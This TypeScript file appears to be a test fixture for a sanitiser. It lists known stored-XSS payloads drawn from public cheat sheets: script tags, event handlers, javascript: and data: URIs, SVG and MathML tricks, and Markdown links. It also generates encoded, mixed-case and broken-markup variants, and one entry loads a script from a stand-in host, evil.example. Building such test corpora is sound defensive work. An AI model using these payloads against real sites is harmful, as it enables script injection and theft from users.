/**
 * Well-known stored-XSS payloads (OWASP's filter evasion cheat sheet, PortSwigger's XSS cheat
 * sheet, html5sec.org), each of which calls alert() or sets window.__xss when it runs, plus
 * systematic variants of them: mixed case, entity- and percent-encoded schemes, Markdown links
 * and images, and broken markup. Shared by the unit test of the sanitiser and the browser test.
 */
const BASE: readonly string[] = [
  // Script elements
  "<script>alert(1)</script>",
  "<script>window.__xss=1</script>",
  "<script src=//evil.example/x.js></script>",
  "<script>/*</script><script>*/alert(1)</script>",
  '<script type="text/javascript">alert(1)</script>',
  '<script type="module">alert(1)</script>',
  "<script\x20type=text/javascript>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</script><script>alert(1)</script>",
  "<script>alert(String.fromCharCode(88,83,83))</script>",
  // Event handlers
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="window.__xss=1">',
  "<img src=x:alert(1) onerror=eval(src)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<body onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<svg><set attributeName=onload to=alert(1)>",
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<div onmouseover=alert(1)>hover</div>",
  "<a onmouseover=alert(1)>hover</a>",
  "<p onclick=alert(1)>klick</p>",
  "<form><button formaction=javascript:alert(1)>X</button></form>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<object data=javascript:alert(1)>",
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  "<embed src=javascript:alert(1)>",
  "<iframe src=javascript:alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  "<frameset onload=alert(1)>",
  "<table background=javascript:alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  '<base href="javascript:alert(1)//">',
  "<style>@import 'javascript:alert(1)';</style>",
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICK</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<a href="javascript:alert(1)">klick</a>',
  "<a href=javascript:alert(1)>klick</a>",
  '<a href="JaVaScRiPt:alert(1)">klick</a>',
  '<a href=" javascript:alert(1)">klick</a>',
  '<a href="java\tscript:alert(1)">klick</a>',
  '<a href="java&#x09;script:alert(1)">klick</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klick</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">klick</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klick</a>',
  '<a href="vbscript:msgbox(1)">klick</a>',
  '<a href="javascript&colon;alert(1)">klick</a>',
  '<a href="  &#14;  javascript:alert(1)">klick</a>',
  '<a href="/" onclick="alert(1)">klick</a>',
  '<img src="javascript:alert(1)">',
  "<img src=`javascript:alert(1)`>",
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<input type="image" src="javascript:alert(1)">',
  '<bgsound src="javascript:alert(1)">',
  '<br size="&{alert(1)}">',
  "<div/onmouseover='alert(1)'>style",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
  "<img src=x onerror=\\u0061lert(1)>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "--><script>alert(1)</script>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "<x onclick=alert(1)>klick</x>",
  "<custom-element onpointerenter=alert(1)>x</custom-element>",
  "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<a href="jav&#x0A;ascript:alert(1)">klick</a>',
  "<a href='data:image/svg+xml,<svg onload=alert(1)>'>klick</a>",
  '<a href="https://example.org" target="_blank" onfocus="alert(1)" autofocus>link</a>',
  // Markdown-shaped
  "[klick](javascript:alert(1))",
  "[klick](JaVaScRiPt:alert(1))",
  "[klick](javascript&#58;alert(1))",
  "[klick](<javascript:alert(1)>)",
  "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[klick](vbscript:msgbox(1))",
  "![bild](javascript:alert(1))",
  '![bild](x" onerror="alert(1))',
  '[klick](https://example.org "titel" onclick="alert(1)")',
  "<javascript:alert(1)>",
  "[a](javascript:alert(1)//https://example.org)",
  "[klick][ref]\n\n[ref]: javascript:alert(1)",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "> <img src=x onerror=alert(1)>",
  "* <svg onload=alert(1)>",
  "**<img src=x onerror=alert(1)>**",
];

/** Upper- and lower-case letters in turn, which a case-sensitive filter misses. */
function mixedCase(text: string): string {
  let upper = false;
  return text.replace(/[a-z]/gi, (letter) => ((upper = !upper) ? letter.toUpperCase() : letter.toLowerCase()));
}

function variants(payload: string): string[] {
  const out = [payload, mixedCase(payload)];
  if (/javascript:/i.test(payload)) {
    out.push(payload.replace(/javascript:/gi, "&#x6a;avascript&#x3a;"));
    out.push(payload.replace(/javascript:/gi, "javascript%3A"));
    out.push(payload.replace(/javascript:/gi, "\tjavascript:"));
  }
  if (payload.startsWith("<")) {
    // Broken markup: an unclosed tag, and one smuggled inside another tag's attribute.
    out.push(payload.replace(/>[^>]*$/, ""));
    out.push(`<p title="${payload.replace(/"/g, "&quot;")}">Text</p>`);
    out.push(`Vorher ${payload} nachher`);
  }
  return out;
}

export const XSS_PAYLOADS: readonly string[] = [...new Set(BASE.flatMap(variants))];
